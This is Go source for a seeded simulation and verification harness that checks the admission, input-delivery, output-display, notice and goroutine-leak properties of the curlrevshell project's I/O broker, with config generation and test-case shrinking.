	defer s.mu.Unlock()
	s.checkAdmissions()
	s.noteGenerations()
	s.checkNoticesLive()
	s.checkLive()
	s.checkInput()
	s.checkOutput(false)
	s.checkDo()
	s.checkEndCause()
	s.checkMustEnd()
	s.checkLeak()
}

func propFor(hs ...*half) string {
	for _, h := range hs {
		if h != nil && h.att.kind == "io" {
			return "C06"
		}
	}
	return "C01"
}

// checkAdmissions: refinement of the admission model, and what a refused
// attempt may never get.
func (s *sim) checkAdmissions() {
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if h.expect == "" || h.judged {
				continue
			}
			if !h.attachedR && !h.doneR {
				continue // still inside its admission section (terminal stalled)
			}
			h.judged = true
			obsAttach := h.attachedR
			h.admitted = obsAttach
			wantAttach := h.expect == "attach"
			switch {
			case obsAttach && !wantAttach:
				s.violate(propFor(h, s.m.in, s.m.out), "admission-refinement", "admitted an attempt the model refuses ("+strings.Join(h.reasons, ",")+")",
					"attempt %s (%s, id %q) was attached although the model %ss it %v; model state in=%s out=%s tearing=%v shutdown=%v",
					h.name(), at.kind, at.idKey, h.expect, h.reasons, hname(s.m.in), hname(s.m.out), s.m.tearing, s.m.shutdown)
			case !obsAttach && wantAttach:
				s.violate(propFor(h), "admission-refinement", "refused an attempt the model admits",
					"attempt %s (%s, id %q) was refused although nothing is attached that excludes it (the listener must re-arm)", h.name(), at.kind, at.idKey)
			}
			if !obsAttach {
				s.probes["refused_"+h.expect]++
			}
		}
	}
}

func hname(h *half) string {
	if h == nil {
		return "-"
	}
	return h.name()
}

// checkLive: at most one live input and output, same ID / same request.
func (s *sim) checkLive() {
	var ins, outs []*half
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if h.attachedR && !h.released {
				if h.dir == dirIn {
					ins = append(ins, h)
				} else {
					outs = append(outs, h)
				}
			}
		}
	}
	if len(ins) > 1 || len(outs) > 1 {
		all := append(append([]*half{}, ins...), outs...)
		s.violate(propFor(all...), "one-shell", "two streams of one direction attached",
			"%d input and %d output streams are attached at once", len(ins), len(outs))
		return
	}
	if len(ins) == 1 && len(outs) == 1 {
		i, o := ins[0], outs[0]
		if i.att.kind == "io" || o.att.kind == "io" {
			if i.att != o.att {
				s.violate("C06", "same-request", "input of one request paired with output of another",
					"input half of attempt %d (%s) is attached together with output half of attempt %d (%s)", i.att.id, i.att.kind, o.att.id, o.att.kind)
			} else {
				s.probes["io_shell_ready"]++
			}
		} else if i.att.idKey != o.att.idKey {
			s.violate("C01", "same-id", "streams with different IDs attached together",
				"input with ID %q and output with ID %q are attached together", i.att.idKey, o.att.idKey)
		}
	}
	// a refused half is never used
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if !h.judged || h.admitted {
				continue
			}
			if h.dir == dirIn && at.w != nil {
				for _, o := range at.w.ops {
					if !o.after {
						s.violate(propFor(h), "refused-untouched", "operator input written to a refused attempt",
							"refused attempt %s was sent %q", h.name(), clipB(o.data))
						break
					}
				}
			}
			if h.dir == dirOut && at.r != nil && at.r.reads > 0 {
				s.violate(propFor(h), "refused-untouched", "output read from a refused attempt",
					"refused attempt %s had its output read (%d reads)", h.name(), at.r.reads)
			}
			if at.kind != "io" && h.doneR && !at.wrapperDone {
				s.violate("C01", "refused-ends", "refused attempt not ended", "refused attempt %s has not returned", h.name())
			}
		}
	}
}

// checkInput is the FIFO model of C02.
func (s *sim) checkInput() {
	for _, at := range s.atts {
		w := at.w
		if w == nil || at.in == nil {
			continue
		}
		for w.cur < len(w.ops) {
			o := w.ops[w.cur]
			if !o.done {
				break
			}
			w.cur++
			if o.after {
				continue // transport already closed: nothing is delivered
			}
			if !at.in.attachedR {
				continue // judged by refused-untouched
			}
			if w.errSeen {
				s.violate("C02", "stop-after-error", "writer used after its own error",
					"input stream %d was used again (%s %q) after a write or flush on it had failed", at.id, o.kind, clipB(o.data))
				return
			}
			if o.kind == "F" {
				if o.err != nil {
					w.errSeen = true
					if w.lastLine >= 0 {
						w.lineOK[w.lastLine] = false // the line whose own flush failed
					}
				}
				w.needFlush = false
				continue
			}
			// a Write
			if w.needFlush {
				s.violate("C02", "flush-each-line", "next line written before the previous was flushed",
					"input stream %d: %q written although the previous line has not been flushed", at.id, clipB(o.data))
				return
			}
			if s.nextLine >= len(s.entered) {
				s.violate("C02", "fifo", "bytes written that were never entered",
					"input stream %d was sent %q but every entered line has already been delivered", at.id, clipB(o.data))
				return
			}
			want := append(append([]byte(nil), s.entered[s.nextLine]...), '\n')
			have := append(append([]byte(nil), w.lineBuf...), o.data...)
			if !bytes.HasPrefix(want, have) {
				s.violate("C02", "fifo", "delivered bytes are not the next entered line plus one newline",
					"input stream %d was sent %q, expected (a piece of) line #%d %q", at.id, clipB(have), s.nextLine, clipB(want))
				return
			}
			if o.err != nil {
				// the one line that may be lost: its own transmission failed
				w.errSeen = true
				w.lineBuf = nil
				w.lines = append(w.lines, s.nextLine)
				w.lineOK = append(w.lineOK, false)
				w.lastLine = len(w.lines) - 1
				s.nextLine++
				s.probes["line_lost_to_own_error"]++
				continue
			}
			if o.n != len(o.data) {
				s.harnessErr = "harness writer returned short count without error"
				return
			}
			w.lineBuf = have
			if len(have) == len(want) {
				w.lineBuf = nil
				w.lines = append(w.lines, s.nextLine)
				w.lineOK = append(w.lineOK, true)
				w.lastLine = len(w.lines) - 1
				s.nextLine++
				w.needFlush = w.flushable()
				s.probes["lines_delivered"]++
			}
		}
	}
	// promptness: a healthy attached input stream has everything entered
	in := s.liveIn()
	if in == nil || in.proxyEnded || s.ctxDying(in) || s.inputClosed || s.polled {
		return
	}
	w := in.att.w
	if w.parked != nil || w.errSeen || w.closed || w.failed {
		return
	}
	if s.nextLine < len(s.entered) || w.needFlush || len(w.lineBuf) > 0 {
		s.violate("C02", "prompt", "entered line not delivered and flushed at once",
			"input stream %d is attached and idle, yet of %d entered lines only %d are delivered (unflushed=%v, partial=%q): delivery must not wait for more input or a timer",
			in.att.id, len(s.entered), s.nextLine, w.needFlush, clipB(w.lineBuf))
	}
}

// plainOf returns the bytes of the plain CLines attributed to output half h
// that have been received so far, and whether all of them have been.
func (s *sim) plainOf(h *half) ([]byte, []string, bool) {
	hi := h.plainHi
	complete := hi >= 0 && len(s.recv) >= hi
	if hi < 0 || hi > len(s.recv) {
		hi = len(s.recv)
	}
	var b []byte
	var chunks []string
	for i := h.plainLo; i < hi; i++ {
		if s.recv[i].class == "plain" {
			b = append(b, s.recv[i].cl.Line...)
			chunks = append(chunks, s.recv[i].cl.Line)
		}
	}
	return b, chunks, complete
}

// checkOutput is the prefix model of C03.
func (s *sim) checkOutput(final bool) {
	// fix the attribution boundary of halves that have just ended
	for _, at := range s.atts {
		h := at.out
		if h == nil || !h.attachedR {
			continue
		}
		if h.proxyEnded && h.plainHi < 0 {
			h.plainHi = len(s.recv) + len(s.och)
		}
	}
	// every plain CLine must fall into some output half's window
	for i := s.plainChecked; i < len(s.recv); i++ {
		if s.recv[i].class != "plain" {
			continue
		}
		ok := false
		for _, at := range s.atts {
			h := at.out
			if h != nil && h.attachedR && i >= h.plainLo && (h.plainHi < 0 || i < h.plainHi) {
				ok = true
			}
		}
		if !ok {
			s.violate("C03", "attributable", "output displayed that no attached stream sent",
				"plain output %q was displayed while no output stream could have sent it", clipB([]byte(s.recv[i].cl.Line)))
		}
	}
	s.plainChecked = len(s.recv)
	for _, at := range s.atts {
		h := at.out
		if h == nil || !h.attachedR || at.r == nil {
			continue
		}
		shown, _, complete := s.plainOf(h)
		sent := at.r.ret
		if !bytes.HasPrefix(sent, shown) {
			n := 0
			for n < len(shown) && n < len(sent) && shown[n] == sent[n] {
				n++
			}
			s.violate("C03", "prefix", "displayed output is not a prefix of what the shell sent",
				"output stream %d: displayed %d bytes, sent %d bytes, first difference at offset %d (displayed %q, sent %q)",
				at.id, len(shown), len(sent), n, clipB(shown[n:]), clipB(sent[n:]))
			return
		}
		if !h.proxyEnded || !complete || h.completeChecked {
			continue
		}
		h.completeChecked = true
		// ended by itself, while still attached and nothing had asked it to stop?
		if at.r.ended && !h.cancelCause {
			s.probes["output_ended_by_itself"]++
			if len(shown) != len(sent) {
				s.violate("C03", "complete-at-end", "output sent before the stream's own end was not displayed",
					"output stream %d ended by itself (%s) while attached, but only %d of the %d bytes sent before the end were displayed (missing %q)",
					at.id, at.r.errKind, len(shown), len(sent), clipB(sent[len(shown):]))
				return
			}
		}
		// its closure notice comes after all of its output
		if at.kind == "out" {
			last := -1
			for i := h.plainLo; i < h.plainHi && i < len(s.recv); i++ {
				if s.recv[i].class == "plain" {
					last = i
				}
			}
			for i := h.plainLo; i < len(s.recv); i++ {
				r := s.recv[i]
				if r.class == "red" && r.att == at && i < last {
					s.violate("C03", "close-after-output", "closure notice displayed before the stream's last output",
						"output stream %d: its closure notice is item %d on the operator channel but its output continues to item %d", at.id, i, last)
				}
			}
		}
	}
}

// noteGenerations records the step at which a shell's ready and gone
// announcements (notice and event) are known to have been made: when the lock
// section that makes them has been left.
func (s *sim) noteGenerations() {
	for _, g := range s.m.gens {
		if g.ready && g.readyStep == 0 && g.readyBy.attachedR {
			g.readyStep = s.step
		}
		if g.ended && g.endStep == 0 && g.endedBy.doneR {
			g.endStep = s.step
		}
	}
}

// checkNoticesLive judges ready and gone notices as they are received (the
// counting rules need the whole history and are checked at the end).
func (s *sim) checkNoticesLive() {
	gens := s.m.gens
	for ; s.noticeSeen < len(s.recv); s.noticeSeen++ {
		r := s.recv[s.noticeSeen]
		if r.att == nil {
			continue
		}
		switch r.class {
		case "ready":
			found := false
			for _, g := range gens {
				if g.ready && g.readyBy != nil && g.readyBy.att.addr == r.att.addr && !g.readySeen {
					g.readySeen = true
					found = true
					break
				}
			}
			if !found {
				s.violate("C04", "ready-iff-attached", "ready notice without a fully attached shell",
					"a ready notice from attempt %d was displayed (item %d) but no shell became fully attached through it (or it was announced twice)", r.att.id, r.idx)
				return
			}
		case "gone":
			if s.goneOpen >= len(gens) || gens[s.goneOpen].endedBy == nil || gens[s.goneOpen].endedBy.att.addr != r.att.addr {
				s.violate("C04", "gone-once", "unexpected 'shell is gone' notice",
					"a gone notice from attempt %d was displayed (item %d) that does not close the current shell (shell #%d)", r.att.id, r.idx, s.goneOpen)
				return
			}
			s.goneOpen++
		}
	}
}

// checkEndCause: the program does not end a stream by itself.  A stream's
// proxy ends because its transport ended or failed, its caller went away, its
// peer was released, the operator's input closed or the program shuts down;
// one that ends for no such reason cuts a live shell off.
func (s *sim) checkEndCause() {
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if !h.endedNoCause {
				continue
			}
			if h.dir == dirOut {
				s.violate("C03", "ended-without-cause", "output stream ended by the program although its transport had not ended",
					"output stream %s was ended although its reader had returned no error or end-of-stream, its caller's context is live and nothing else had happened that ends it: whatever the attached shell sends from now on is never shown", h.name())
			} else {
				s.violate("C02", "ended-without-cause", "input stream ended by the program although its transport had not failed",
					"input stream %s was ended although no write or flush had failed, its caller's context is live and nothing else had happened that ends it", h.name())
			}
			return
		}
	}
}

func (s *sim) checkDo() {
	if !s.doRet {
		return
	}
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if h.attachedR && !h.doneR {
				s.violate("C04", "do-waits", "broker finished while a stream was still attached",
					"Broker.Do has returned although stream %s is still attached", h.name())
				return
			}
		}
	}
	if !s.shutdown {
		s.violate("C04", "do-waits", "broker finished without shutdown", "Broker.Do returned although nobody cancelled it")
	}
}

// checkMustEnd: a direction whose peer is gone (or whose client went away)
// ends by itself, without further traffic.
func (s *sim) checkMustEnd() {
	terminalOK := s.cfg.AutoDrain || s.draining || (cap(s.och) > 0 && len(s.och) < cap(s.och))
	if !terminalOK || s.busy != nil {
		return
	}
	for _, at := range s.atts {
		for _, h := range at.halves() {
			since, ok := s.mustEnd[h]
			if !ok || h.proxyEnded || !h.attachedR {
				continue
			}
			if h.dir == dirIn && at.w != nil && at.w.parked != nil {
				continue // its transport write is still in flight: that is the simulator's doing
			}
			s.violate("C04", "peer-ends", "other direction not ended after one direction ended",
				"stream %s should have ended by itself since step %d (its peer was released, its client went away, its own transport failed or the program is shutting down) but is still running with nothing in flight", h.name(), since)
			return
		}
	}
}

// checkLeak: nothing of an ended attempt keeps running once its transport
// streams are closed.
func (s *sim) checkLeak() {
	if !s.leakDue && !s.draining && s.step%32 != 0 {
		return
	}
	if s.polled {
		return // (leakDue stays set: judged at the next synctest quiescence)
	}
	s.leakDue = false
	for _, g := range simkit.BubbleGoroutines() {
		if s.baseline[g.ID] || s.ownGIDs[g.ID] {
			continue
		}
		at := s.tag[g.ID]
		if at == nil {
			// a goroutine of the code that never touched the harness: only
			// legitimate while some attempt is in flight
			inflight := false
			for _, a := range s.atts {
				if !a.returned || !a.closedTrans {
					inflight = true
				}
			}
			if inflight {
				continue
			}
		} else if !at.returned || !at.closedTrans {
			continue
		}
		s.leakSeen = true
		who := -1
		if at != nil {
			who = at.id
		}
		s.violate("C04", "nothing-left-running", "goroutine of an ended stream still running after its transport closed: "+leakSig(g.Stack),
			"attempt %d has returned and its transport is closed, but a goroutine that served it is still there:\n%s", who, g.Stack)
		return
	}
}

// leakSig names where a leaked goroutine sits (for the finding's signature;
// the leak itself is found without looking at names).
func leakSig(stack string) string {
	lines := strings.Split(stack, "\n")
	state := ""
	if len(lines) > 0 {
		if i := strings.IndexByte(lines[0], '['); i >= 0 {
			state = strings.TrimSuffix(strings.SplitN(lines[0][i+1:], ",", 2)[0], "]:")
			state = strings.TrimSuffix(state, " (durable)")
		}
	}
	for _, l := range lines[1:] {
		if strings.Contains(l, "github.com/magisterquis/curlrevshell/") && !strings.Contains(l, "verifharness") && !strings.HasPrefix(l, "\t") {
			fn := l
			if i := strings.LastIndex(fn, "/"); i >= 0 {
				fn = fn[i+1:]
			}
			if i := strings.IndexByte(fn, '('); i > 0 && !strings.HasPrefix(fn[i:], "(*") {
				fn = fn[:i]
			} else if j := strings.LastIndex(fn, "("); j > 0 {
				fn = fn[:j]
			}
			return state + " in " + fn
		}
	}
	return state
}
