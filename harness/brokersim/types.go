// Package brokersim is Layer A of DESIGN.md: the real iobroker.Broker inside a
// synctest bubble, with every caller, writer, reader, context, the operator
// channels and the order of the broker's lock sections owned by a seeded
// simulator, and a reference model checked after every macro-step.
package brokersim

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"sort"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Config is the swarm configuration of one run.
type Config struct {
	Profile      string   `json:"profile"` // property whose workload mix is used
	IchCap       int      `json:"ich_cap"`
	OchCap       int      `json:"och_cap"`
	AutoDrain    bool     `json:"auto_drain"` // operator reads everything at once; else explicit recv
	Strict       bool     `json:"strict"`     // avoid steps that go through a runtime select coin
	IDs          []string `json:"ids"`
	WriterKinds  []string `json:"writer_kinds"`
	ParkWrites   int      `json:"park_writes"` // percent of input attempts whose writer parks in Write/Flush
	ReadErrs     []string `json:"read_errs"`
	DeriveCtx    bool     `json:"derive_ctx"` // attempt contexts derive from the broker's
	Listeners    int      `json:"listeners"`
	MaxSteps     int      `json:"max_steps"`
	MaxAttempts  int      `json:"max_attempts"`
	ReadMax      int      `json:"read_max"`
	W            Weights  `json:"w"`
	Enum         string   `json:"enum,omitempty"`          // description of an enumerated case (C06)
	IOSameHost   bool     `json:"io_same_host,omitempty"`  // all /io attempts come from one remote address
	LogPark      bool     `json:"log_park,omitempty"`      // hold callers inside their log calls when the broker's lock turns out to be free there
	HeldShut     bool     `json:"held_shutdown,omitempty"` // the shutdown may be let go while a lock section is blocked on the stalled terminal
	LateClose    bool     `json:"late_close,omitempty"`    // the transports of a returned caller are closed later, at a step of their own (close_trans), not at once
	Burst        bool     `json:"burst,omitempty"`         // several /io requests may start within one step (their set-up code runs concurrently)
	LazyListener bool     `json:"lazy_listener,omitempty"` // event listener 0 has a channel of one or two slots and is read only at drain_events steps
	Served       uint64   `json:"served,omitempty"`        // the broker has served this many requests before the run begins (its counters are moved forward)
}

// Weights are the relative frequencies of the action kinds.
type Weights struct {
	StartIn, StartOut, StartIO     int
	Grant, Enter, Recv             int
	ReadData, ReadErr, ReadBig     int
	WriteOK, WriteErr, Cancel      int
	Shutdown, CloseInput, ReadZero int
}

// Action is one macro-step stimulus.  Exactly one of these is applied between
// two quiescent points.
type Action struct {
	K string `json:"k"`           // kind
	A int    `json:"a,omitempty"` // attempt serial
	D string `json:"d,omitempty"` // direction of the half: "input" | "output"
	S string `json:"s,omitempty"` // site (grant), writer kind (start_in/start_io), error kind (read_done, write_done, flush_done)
	B []byte `json:"b,omitempty"` // payload: callback ID, line or output bytes
	P bool   `json:"p,omitempty"` // writer parks in Write/Flush (start_in/start_io)
	N int    `json:"n,omitempty"` // inline fault position (start_*): the n-th write op fails (1-based; 0 = none)
	C int    `json:"c,omitempty"` // burst_io: number of requests started in the same step
}

func (a Action) String() string {
	b, _ := json.Marshal(a)
	return string(b)
}

const (
	dirIn  = "input"
	dirOut = "output"
)

// half is one direction of one attempt.
type half struct {
	att *attempt
	dir string

	// progress, driven by hook calls (under sim.mu)
	site      string // "", admit, admitting, attached, release, releasing, done
	park      *park
	attachedR bool // "attached" report seen
	doneR     bool // "done" report seen
	key       string

	// model verdict at the grant of its admission
	expect   string   // attach | refuse | silent
	reasons  []string // applicable refusal reasons (log message constants)
	admitted bool     // observed
	gen      int      // generation it belongs to, if admitted

	admitStep    int
	releaseStep  int
	released     bool // release granted
	endedByErr   bool // harness knows the stream ended with a transport error of its own
	cancelCause  bool // a cancellation cause occurred before its proxy ended
	proxyEnded   bool // seen at release park
	endedNoCause bool // the proxy ended although nothing had happened that ends this stream

	// C03/C11 attribution of plain output (output halves)
	plainLo, plainHi int   // receive indexes [lo,hi) of the plain CLines sent by this half; hi = -1 while open
	judged           bool  // admission outcome compared with the model
	gid              int64 // goroutine that runs this half of the call
	logPark          *park // parked inside a log call with the broker's lock free
	logParked        bool  // ... has been, in this lock section
	completeChecked  bool
}

func (h *half) name() string { return fmt.Sprintf("%d/%s", h.att.id, h.dir[:1]) }

// attempt is one call of ConnectIn, ConnectOut or ConnectInOut.
type attempt struct {
	id     int
	kind   string // in | out | io
	idKey  string // callback ID (unidirectional)
	addr   string
	ctx    context.Context
	cancel context.CancelFunc
	in     *half
	out    *half
	w      *simWriter
	r      *simReader

	cancelled    bool
	wrapperDone  bool // set by the wrapper goroutine when the call returns
	returned     bool // wrapper observed returned
	chunks       int
	returnedStep int
	closedTrans  bool
	closeDue     bool // late-close runs: the simulator has decided to close the transports now
	startedStep  int
	gid          int64
}

func (a *attempt) halves() []*half {
	var hs []*half
	if a.in != nil {
		hs = append(hs, a.in)
	}
	if a.out != nil {
		hs = append(hs, a.out)
	}
	return hs
}

type park struct {
	gid  int64
	site string
	h    *half // nil for shutdown
	ch   chan struct{}
}

// recvd is one CLine received from the operator channel, classified.
type recvd struct {
	idx   int
	cl    opshell.CLine
	step  int
	class string // plain | ready | gone | red | green | other
	att   *attempt
	rest  string
}

// logRec is one parsed JSON log record.
type logRec struct {
	Level string
	Msg   string
	Att   int
	Dir   string
	Data  *string
	Err   *string
	step  int
}

// generation is one shell life in the model: from the first attach out of
// idle to the release of the last attached half.
type generation struct {
	n          int
	halves     []*half
	ready      bool
	readyStep  int
	readyBy    *half
	readySeen  bool
	endedBy    *half
	ended      bool
	endStep    int
	byShutdown bool
	leakDone   bool
}

// model is the reference model of the admission rules, written from the
// property statements.
type model struct {
	in, out  *half
	key      string // identity of the attached shell: the callback ID, or a per-request identity for /io
	tearing  bool
	shutdown bool
	gen      *generation
	gens     []*generation
}

func identity(h *half) string {
	if h.att.kind == "io" {
		return fmt.Sprintf("\x00io#%d", h.att.id)
	}
	return "id:" + h.att.idKey
}

// admit returns the model's verdict for admitting h now.
func (m *model) verdict(h *half) (string, []string) {
	if m.shutdown {
		return "silent", nil
	}
	var reasons []string
	if h.att.kind != "io" && h.att.idKey == "" {
		reasons = append(reasons, iobroker.LMKeyMissing)
	}
	if m.tearing {
		reasons = append(reasons, iobroker.LMDisconnecting)
	}
	mine, other := m.in, m.out
	if h.dir == dirOut {
		mine, other = m.out, m.in
	}
	if mine != nil {
		reasons = append(reasons, iobroker.LMAlreadyConnected)
	}
	if other != nil && !m.tearing && identity(h) != m.key {
		reasons = append(reasons, iobroker.LMIncorrectKey)
	}
	if len(reasons) > 0 {
		return "refuse", reasons
	}
	return "attach", nil
}

func (m *model) attach(h *half, step int) {
	if m.gen == nil {
		m.gen = &generation{n: len(m.gens)}
		m.gens = append(m.gens, m.gen)
	}
	if h.dir == dirIn {
		m.in = h
	} else {
		m.out = h
	}
	m.key = identity(h)
	h.gen = m.gen.n
	m.gen.halves = append(m.gen.halves, h)
	if m.in != nil && m.out != nil {
		m.gen.ready = true
		m.gen.readyBy = h
	}
}

// release returns the half (if any) that must now end by itself, and whether
// the generation is over.
func (m *model) release(h *half, step int) (other *half, over bool) {
	if h.dir == dirIn {
		m.in, other = nil, m.out
	} else {
		m.out, other = nil, m.in
	}
	if other != nil {
		m.tearing = true
		return other, false
	}
	m.tearing = false
	m.key = ""
	if m.gen != nil {
		m.gen.ended = true
		m.gen.endedBy = h
		m.gen.byShutdown = m.shutdown
		m.gen = nil
	}
	return nil, true
}

// sim is the simulator state of one run.
type sim struct {
	cfg Config
	rng *simkit.RNG

	mu sync.Mutex // guards everything the hooks and harness I/O objects touch; never held while blocking

	b        *iobroker.Broker
	bctx     context.Context
	bcancel  context.CancelFunc
	ich      chan string
	och      chan opshell.CLine
	doRet    bool
	doRetAt  int
	doGID    int64
	shutdown bool // shutdown action applied

	feeder *feeder

	atts       []*attempt
	parks      []*park
	busy       *half // half inside a lock section (top of busyStack)
	busyStack  []*half
	heldShut   bool        // the shutdown goroutine was let go while a lock section was blocked: it may wait for the broker\'s lock
	polled     bool        // the last quiescence was found by polling goroutine states (a mutex waiter was present): rules of the form "by now X has happened" are not judged at such a point
	evDrainDue bool        // lazy-listener runs: read the listener in this and the following settles of the step
	lock       *sync.Mutex // the broker's own lock (log-park runs only)
	shutPark   *park
	shutDone   bool

	m model

	step     int
	recv     []recvd
	logBuf   *lockedBuf
	logOff   int
	logs     []logRec
	listen   []chan iobroker.Event
	events   [][]iobroker.EventType
	baseline map[int64]bool
	ownGIDs  map[int64]bool

	entered     [][]byte // lines entered, in order
	nextLine    int      // next entered line not yet accounted to a stream
	inputClosed bool

	bidirKeys map[string]bool

	trace      []string
	stepObs    []string
	found      []simkit.Found
	faults     map[string]int64
	probes     map[string]int64
	states     simkit.Set64
	trans      simkit.Set64
	nontrivial bool
	actions    []Action
	invalid    bool
	harnessErr string

	mustEnd map[*half]int // halves that must end by themselves: step at which the obligation arose

	script         []Action
	scriptPos      int
	replay         bool
	freeTail       bool
	leakSeen       bool
	simNanos       int64
	tag            map[int64]*attempt // goroutines of the code, by the attempt they serve
	byAddr         map[string]*attempt
	baseLog        *slog.Logger
	draining       bool
	leakDue        bool
	tearingDown    bool
	plainChecked   int
	noticeSeen     int
	goneOpen       int
	shutdownStep   int
	drainStartStep int // step at which the closing phase began
	lazyReadStep   int // last step before the shutdown at which the lazy listener was read
}

func (s *sim) violate(prop, inv, sig, format string, a ...any) {
	msg := fmt.Sprintf(format, a...)
	for _, f := range s.found {
		if f.Property == prop && f.Invariant == inv {
			return
		}
	}
	s.found = append(s.found, simkit.Found{Property: prop, Invariant: inv, Signature: sig,
		Message: fmt.Sprintf("step %d: %s", s.step, msg)})
	s.obs("VIOLATION %s/%s: %s", prop, inv, msg)
}

func (s *sim) obs(format string, a ...any) {
	s.stepObs = append(s.stepObs, fmt.Sprintf(format, a...))
}

func (s *sim) flushObs(act string) {
	sort.Strings(s.stepObs)
	s.trace = append(s.trace, fmt.Sprintf("step %d %s :: %s", s.step, act, strings.Join(s.stepObs, " ; ")))
	s.stepObs = s.stepObs[:0]
}

func (s *sim) att(id int) *attempt {
	if id < 0 || id >= len(s.atts) {
		return nil
	}
	return s.atts[id]
}

func (s *sim) half(id int, dir string) *half {
	a := s.att(id)
	if a == nil {
		return nil
	}
	if dir == dirIn {
		return a.in
	}
	if dir == dirOut {
		return a.out
	}
	return nil
}
