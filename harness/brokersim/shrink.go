package brokersim

import (
	"encoding/json"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Shrink implements simkit.Shrinker: remove one attempt with everything that
// refers to it (renumbering the later ones), shorten payloads, calm the
// configuration down.
func (Engine) Shrink(c *simkit.Case) []*simkit.Case {
	var acts []Action
	for _, raw := range c.Actions {
		var a Action
		if json.Unmarshal(raw, &a) != nil {
			return nil
		}
		acts = append(acts, a)
	}
	mk := func(as []Action, cfg json.RawMessage) *simkit.Case {
		out := &simkit.Case{Config: cfg}
		for _, a := range as {
			b, _ := json.Marshal(a)
			out.Actions = append(out.Actions, b)
		}
		return out
	}
	refers := func(a Action) bool {
		switch a.K {
		case "grant":
			return a.S != "shutdown"
		case "read_done", "write_done", "flush_done", "cancel":
			return true
		}
		return false
	}
	var out []*simkit.Case
	// drop attempt k
	n := 0
	for _, a := range acts {
		if a.K == "start_in" || a.K == "start_out" || a.K == "start_io" {
			n++
		}
	}
	for k := 0; k < n; k++ {
		var as []Action
		idx := 0
		for _, a := range acts {
			if a.K == "start_in" || a.K == "start_out" || a.K == "start_io" {
				if idx == k {
					idx++
					continue
				}
				idx++
				as = append(as, a)
				continue
			}
			if refers(a) {
				if a.A == k {
					continue
				}
				if a.A > k {
					a.A--
				}
			}
			as = append(as, a)
		}
		out = append(out, mk(as, c.Config))
	}
	// shorten payloads
	for i, a := range acts {
		if (a.K == "enter" || a.K == "read_done") && len(a.B) > 3 {
			as := append([]Action(nil), acts...)
			as[i].B = a.B[:1+len(a.B)/8]
			out = append(out, mk(as, c.Config))
		}
	}
	// calmer configuration: big channels, no listeners, auto-drain where it was manual
	var cfg Config
	if json.Unmarshal(c.Config, &cfg) == nil {
		try := func(f func(*Config)) {
			c2 := cfg
			f(&c2)
			b, _ := json.Marshal(c2)
			if string(b) != string(c.Config) {
				out = append(out, mk(acts, b))
			}
		}
		try(func(x *Config) { x.Listeners = 0 })
		try(func(x *Config) { x.IchCap = 1024 })
		try(func(x *Config) { x.OchCap = 1024 })
		try(func(x *Config) { x.LogPark = false })
		try(func(x *Config) { x.IOSameHost = false })
		try(func(x *Config) { x.DeriveCtx = false })
		try(func(x *Config) {
			x.IDs = nil
			x.WriterKinds = nil
			x.ReadErrs = nil
			x.W = Weights{}
			x.MaxAttempts = 0
		})
	}
	return out
}
