package brokersim

import (
	"fmt"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

var idAlphabet = []string{"k", "K", "k1", "kk", "k ", "%s%d", "", "k\x00", "k%20", "ｋ"}

// genConfig draws the swarm configuration of run idx (or an enumerated case).
func genConfig(job *simkit.Job, rng *simkit.RNG, idx int64) (Config, []Action, bool) {
	prof := job.Property
	if p := job.Args["profile"]; p != "" {
		prof = p
	}
	cfg := Config{Profile: prof}
	caps := []int{0, 1, 3, 1024}
	cfg.IchCap = caps[rng.Intn(4)]
	cfg.OchCap = caps[rng.Intn(4)]
	cfg.AutoDrain = rng.Chance(55, 100)
	cfg.Strict = rng.Chance(80, 100)
	if job.Mode == "selftest" {
		cfg.Strict = true
	}
	// a small ID alphabet, so that equal, prefix-related and case-variant IDs meet
	n := rng.Range(1, 3)
	for i := 0; i < n; i++ {
		cfg.IDs = append(cfg.IDs, idAlphabet[rng.Pick([]int{30, 12, 10, 10, 5, 5, 6, 3, 3, 3})])
	}
	if rng.Chance(1, 60) {
		cfg.IDs = append(cfg.IDs, strings.Repeat("L", 65536))
	}
	kinds := []string{"plain", "flusher", "flusherr", "both"}
	for _, k := range kinds {
		if rng.Chance(60, 100) {
			cfg.WriterKinds = append(cfg.WriterKinds, k)
		}
	}
	if len(cfg.WriterKinds) == 0 {
		cfg.WriterKinds = []string{kinds[rng.Intn(4)]}
	}
	cfg.ParkWrites = []int{0, 0, 30, 100}[rng.Intn(4)]
	for _, e := range []string{"eof", "ueof", "closedpipe", "boom"} {
		if rng.Chance(70, 100) {
			cfg.ReadErrs = append(cfg.ReadErrs, e)
		}
	}
	if len(cfg.ReadErrs) == 0 {
		cfg.ReadErrs = []string{"eof"}
	}
	cfg.DeriveCtx = rng.Chance(1, 2)
	cfg.IOSameHost = rng.Chance(1, 3)
	cfg.LogPark = rng.Chance(1, 3)
	cfg.HeldShut = rng.Chance(1, 2)
	cfg.LateClose = rng.Chance(1, 3)
	cfg.Burst = rng.Chance(1, 2)
	if rng.Chance(1, 3) {
		// a listener that has been up for a long time: counters near the places where encodings change
		cfg.Served = []uint64{9, 99, 255, 65535, 55295, 57343, 1114111, 1<<31 - 1, 1<<32 - 1, 1<<63 - 1, 1<<64 - 3}[rng.Intn(11)]
	}
	cfg.Listeners = rng.Intn(3)
	cfg.LazyListener = cfg.Listeners > 0 && rng.Chance(1, 2)
	if cfg.LazyListener {
		// events go out to the listeners in map order: with one of them
		// blocking, what the others have seen would depend on that order
		cfg.Listeners = 1
	}
	cfg.MaxSteps = rng.Range(15, 120)
	cfg.MaxAttempts = rng.Range(2, 40)
	cfg.ReadMax = []int{1, 7, 64, 2048, 5000}[rng.Intn(5)]
	w := Weights{StartIn: 10, StartOut: 10, StartIO: 3, Grant: 30, Enter: 10, Recv: 12,
		ReadData: 10, ReadErr: 3, ReadBig: 1, WriteOK: 14, WriteErr: 2, Cancel: 3, Shutdown: 1, CloseInput: 1, ReadZero: 1}
	switch prof {
	case "C01":
		w.StartIn, w.StartOut, w.StartIO, w.Cancel = 16, 16, 4, 5
	case "C02":
